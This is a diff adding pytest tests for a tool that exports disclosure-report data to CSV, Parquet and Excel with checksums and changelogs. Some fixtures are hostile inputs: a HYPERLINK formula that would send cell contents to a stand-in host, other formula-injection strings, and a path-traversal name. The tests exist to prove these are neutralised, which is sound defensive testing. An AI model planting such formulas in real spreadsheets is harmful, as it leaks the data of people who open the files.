@@ -1,0 +1,163 @@
+"""A release as those meet it who open it without gongkai: pandas, Excel, sha256sum."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import openpyxl
+import pandas as pd
+import pytest
+
+from export.release import NotExported, export, releases
+from findings.record import record
+from tests.unit.warehouse.small_build import Small, make
+
+RULE = {
+    "rule": "t3.new",
+    "family": "t3",
+    "severity": "error",
+    "basis": "form",
+    "zh": "应为零",
+    "en": "Must be 0",
+    "what_to_do": "请核对",
+    "scope": "column",
+    "sources": ("A",),
+    "digest": "0",
+}
+FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
+HOSTILE = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "\r=1")
+HARMLESS = ("减1237", "-5", "+3.5", "0%", "a=b", "")
+
+
+def build(folder: Path, asked: str = "7", extra: tuple[str, ...] = ()) -> Path:
+    """Two offices, one of them with a hostile name, and a finding on the requests of the first."""
+    draft = make(
+        folder,
+        Small(
+            1,
+            2021,
+            printed={"t3.requests_new.total": asked, "t3.granted.total": "/", "t2.government_rules.issued": "?"},
+        ),
+        Small(2, 2022),
+        offices={
+            1: {"name": "青禾县民政局", "province": "某省", "county": "青禾县"},
+            2: {"name": FORMULA, "county": "../../x"},
+        },
+    )
+    query = """SELECT report_id, office_id, year, "column" AS scope, value AS stated, 0 AS expected, value AS gap,
+        [cell] AS cells FROM cells WHERE "row" = 'requests_new' AND value <> 0"""
+    record(draft, [RULE], {"t3.new": query}, {}, lambda *_: (FORMULA, "not 0"))
+    with duckdb.connect(str(draft)) as connection:
+        for i, text in enumerate(extra):
+            connection.execute("INSERT INTO sections VALUES (2, 2022, 'overview', ?, ?)", [text, 100 + i])
+        connection.execute(
+            "UPDATE requests SET text = ?, value = NULL, status = 'unreadable'"
+            " WHERE office_id = 2 AND outcome = 'granted' AND applicant = 'total'",
+            [FORMULA],
+        )
+    return draft
+
+
+def test_a_release_is_whole_and_its_checksums_hold(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one"), tmp_path / "out")
+    sums = dict(line.split("  ", 1)[::-1] for line in (release / "SHA256SUMS").read_text().splitlines())
+    files = {p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()} - {"SHA256SUMS"}
+    assert set(sums) == files
+    assert {"README.md", "CHANGES.md", "data-dictionary.md", "datapackage.json"} <= files
+    for name, digest in sums.items():
+        assert hashlib.sha256((release / name).read_bytes()).hexdigest() == digest
+    assert [p.name for p in (tmp_path / "out").iterdir()] == [release.name]  # no draft is left
+    with pytest.raises(NotExported, match="exported already"):
+        export(tmp_path / "one" / "draft.duckdb", tmp_path / "out")
+
+
+def test_a_release_that_breaks_off_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    def full(*_: Any) -> None:
+        raise OSError("No space left on device")
+
+    monkeypatch.setattr("export.release.write_workbook", full)
+    with pytest.raises(NotExported, match="No space left"):
+        export(build(tmp_path / "one"), tmp_path / "out")
+    assert list((tmp_path / "out").iterdir()) == []
+
+
+def test_a_folder_that_cannot_be_written_is_told(tmp_path: Path) -> None:
+    (tmp_path / "out").write_text("a file")
+    with pytest.raises(NotExported, match="cannot be written"):
+        export(build(tmp_path / "one"), tmp_path / "out")
+    (tmp_path / "damaged.duckdb").write_bytes(b"no database" * 1000)
+    with pytest.raises(NotExported, match=r"damaged\.duckdb"):
+        export(tmp_path / "damaged.duckdb", tmp_path / "other")
+
+
+def test_parquet_and_csv_hold_the_same_rows_blank_and_nil_apart(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
+    parquet = pd.read_parquet(release / "parquet" / "requests")
+    assert sorted(p.name for p in (release / "parquet" / "requests").iterdir()) == ["year=2021", "year=2022"]
+    listed = pd.read_csv(release / "csv" / "requests.csv")  # as people do it: the mark in front does no harm
+    assert next(iter(listed.columns)) == "office_id"
+    assert len(parquet) == len(listed) == 2 * 175
+    cell = "office_id == 1 and outcome == 'granted' and applicant == 'total'"
+    for frame in (parquet, listed):
+        (found,) = frame.query(cell).to_dict("records")
+        assert (found["status"], found["text"], pd.isna(found["value"])) == ("slash", "/", True)
+
+
+def test_the_package_describes_every_csv(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
+    package = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
+    assert {r["path"] for r in package["resources"]} == {f"csv/{p.name}" for p in (release / "csv").iterdir()}
+    for resource in package["resources"]:
+        with (release / resource["path"]).open(encoding=resource["encoding"], newline="") as file:
+            rows = list(csv.reader(file))
+        assert rows[0] == [field["name"] for field in resource["schema"]["fields"]]
+        assert len(rows) - 1 == resource["rows"]
+        assert set(resource["schema"].get("primaryKey", [])) <= set(rows[0])
+
+
+def test_no_text_becomes_a_formula(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one", extra=(*HOSTILE, *HARMLESS)), tmp_path / "out")
+    with (release / "csv" / "sections.csv").open(encoding="utf-8-sig", newline="") as file:
+        texts = [row["text"] for row in csv.DictReader(file)]
+    assert [t for t in texts if t.startswith("'")] == [f"'{text}" for text in HOSTILE]
+    assert set(HARMLESS) <= set(texts)
+    assert set(HOSTILE) <= set(pd.read_parquet(release / "parquet" / "sections")["text"])  # as printed
+    for path in (release / "workbooks").rglob("*.xlsx"):
+        for sheet in openpyxl.load_workbook(path):
+            assert not [c.coordinate for row in sheet for c in row if c.data_type == "f"]
+
+
+def test_workbooks_stay_in_their_folder_and_bear_findings_as_notes(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one"), tmp_path / "out")
+    found = sorted(p.relative_to(release / "workbooks").as_posix() for p in (release / "workbooks").rglob("*.xlsx"))
+    assert len(found) == 2 and not [name for name in found if ".." in name]
+    book = openpyxl.load_workbook(release / "workbooks" / next(n for n in found if "青禾县民政局" in n))
+    assert book.sheetnames == ["目录 Contents", "2021 青禾县民政局"]
+    page = book["2021 青禾县民政局"]
+    cells = [c for row in page for c in row]
+    (noted,) = [c for c in cells if c.comment]
+    assert noted.value == 7 and FORMULA in noted.comment.text
+    values = [c.value for c in cells]
+    assert {"（一）予以公开", "法律服务机构", "未经复议直接起诉", "/", "？"} <= set(values)
+    merged = {str(r) for r in page.merged_cells.ranges}
+    assert len(merged) > 30
+
+
+def test_a_county_is_one_workbook(tmp_path: Path) -> None:
+    release = export(build(tmp_path / "one"), tmp_path / "out", "county")
+    assert (release / "workbooks/某省/青禾县.xlsx").is_file()
+
+
+def test_the_next_release_says_what_it_changes(tmp_path: Path) -> None:
+    first = export(build(tmp_path / "one"), tmp_path / "out", "none")
+    second = export(build(tmp_path / "two", "9"), tmp_path / "out", "none")
+    assert releases(tmp_path / "out") == [second, first]
+    words = (second / "CHANGES.md").read_text(encoding="utf-8")
+    assert first.name in words and "Values changed: 1" in words
+    (change,) = pd.read_csv(second / "changes.csv").to_dict("records")
+    assert (change["cell"], change["value_before"], change["value"]) == ("t3.requests_new.total", 7, 9)
